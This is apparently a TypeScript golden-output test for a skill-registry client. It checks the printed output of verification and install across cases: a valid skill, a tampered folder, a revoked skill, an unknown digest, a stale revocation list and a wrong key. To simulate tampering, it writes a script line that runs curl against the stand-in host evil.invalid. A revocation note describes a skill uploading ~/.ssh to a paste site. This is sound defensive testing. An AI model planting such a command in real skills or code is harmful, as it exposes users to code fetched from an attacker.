import { createECDH, createHash, createPrivateKey } from 'node:crypto';
import { chmod, cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RegistryClient, formatVerification, installSkill, verifySkill, type VerifyOptions } from '../../client/index.ts';
import { generateRegistryKeyPem, keySigner, registryKeyFromPem, type Signer } from '../../signing/index.ts';
import { buildSite, digestOf, weatherSkill, type PublishedSkill, type SkillFixture } from './site-factory.ts';

/** Set to rewrite the golden file from the current output. */
const UPDATE_GOLDEN = process.env.UPDATE_GOLDEN === '1';
const GOLDEN = resolve(import.meta.dirname, 'golden', 'verify-output.txt');

/** A fixed test-only key (derived from a public seed) so key ids in the golden file stay put. */
function goldenTestKeyPem(): string {
  const d = createHash('sha256').update('skill-registry golden-output test key').digest();
  const ecdh = createECDH('prime256v1');
  ecdh.setPrivateKey(d);
  const point = ecdh.getPublicKey();
  const jwk = { kty: 'EC', crv: 'P-256', d: d.toString('base64url'), x: point.subarray(1, 33).toString('base64url'), y: point.subarray(33).toString('base64url') };
  return createPrivateKey({ key: jwk, format: 'jwk' }).export({ type: 'pkcs8', format: 'pem' }).toString();
}
const ISSUED_AT = '2026-11-20T12:00:00.000Z';
const NOW = new Date('2026-11-22T12:00:00.000Z');
const revoked: SkillFixture = { publisher: 'mallory', name: 'helpful-notes', version: '0.1.0', files: { 'SKILL.md': '---\nname: helpful-notes\n---\nNotes.\n' } };

let work: string;
let site: string;
let signer: Signer;
let latest: PublishedSkill;

const options = (extra: Partial<VerifyOptions> = {}): VerifyOptions => ({ registry: new RegistryClient(site), now: NOW, ...extra });

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'skill-registry-output-'));
  site = join(work, 'site');
  signer = keySigner(registryKeyFromPem(goldenTestKeyPem()));
  [, latest] = await buildSite(site, {
    signer,
    skills: [weatherSkill('1.0.0'), weatherSkill('1.1.0'), revoked],
    revocations: [{ digest: digestOf(revoked), reason: 'It uploads ~/.ssh to a paste site.', date: '2026-11-21T00:00:00.000Z' }],
    issuedAt: ISSUED_AT,
  });
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

describe('what verify and install print (run with UPDATE_GOLDEN=1 to regenerate)', () => {
  it('matches the golden file', async () => {
    const sections: string[] = [];
    const add = (title: string, text: string) => sections.push(`=== ${title}\n${text.replaceAll(site, '<site>').replaceAll(work, '<work>')}\n`);

    add('verify <digest>', formatVerification(await verifySkill({ digest: latest.digest }, options({ trust: signer.trust })), `Verifying ${latest.digest} against <site>`));

    const skills = join(work, 'skills');
    await mkdir(skills);
    const installed = await installSkill('acme/weather-lite', { ...options(), directory: skills });
    add('install acme/weather-lite', formatVerification(installed.verification, 'Installing acme/weather-lite'));

    const folder = join(work, 'weather-lite');
    await cp(installed.path!, folder, { recursive: true });
    await writeFile(join(folder, 'scripts', 'run.py'), 'import os\nos.system("curl https://evil.invalid")\n');
    await writeFile(join(folder, 'notes.txt'), 'hello\n');
    await rm(join(folder, 'references', 'api.md'));
    await chmod(join(folder, 'SKILL.md'), 0o755);
    add('verify <tampered folder>', formatVerification(await verifySkill({ dir: folder }, options({ displayName: './weather-lite' })), 'Verifying ./weather-lite against <site>'));

    add('verify <revoked digest>', formatVerification(await verifySkill({ digest: digestOf(revoked) }, options()), `Verifying ${digestOf(revoked)} against <site>`));
    add('verify <unknown digest>', formatVerification(await verifySkill({ digest: 'ab'.repeat(32) }, options()), 'Verifying sha256:abab… against <site>'));
    add('verify, stale revocation list', formatVerification(await verifySkill({ digest: latest.digest }, options({ now: new Date('2026-12-20T12:00:00.000Z') })), `Verifying ${latest.digest} against <site>`));
    add('verify --strict, stale revocation list', formatVerification(await verifySkill({ digest: latest.digest }, options({ now: new Date('2026-12-20T12:00:00.000Z'), strict: true })), `Verifying ${latest.digest} against <site>`));
    const stranger = keySigner(registryKeyFromPem(generateRegistryKeyPem())).trust;
    const wrongSigner = await verifySkill({ digest: latest.digest }, options({ trust: stranger }));
    const strangerKeyId = stranger.mode === 'key' ? stranger.keyId : '';
    add('verify --trust <another key>', formatVerification(wrongSigner, `Verifying ${latest.digest} against <site>`).replaceAll(strangerKeyId, '<pinned key id>'));
    add('install mallory/helpful-notes (revoked)', formatVerification((await installSkill('mallory/helpful-notes', { ...options(), directory: skills })).verification, 'Installing mallory/helpful-notes'));

    const rendered = sections.join('\n');
    if (UPDATE_GOLDEN) await writeFile(GOLDEN, rendered);
    expect(rendered).toBe(await readFile(GOLDEN, 'utf8'));
  });
});
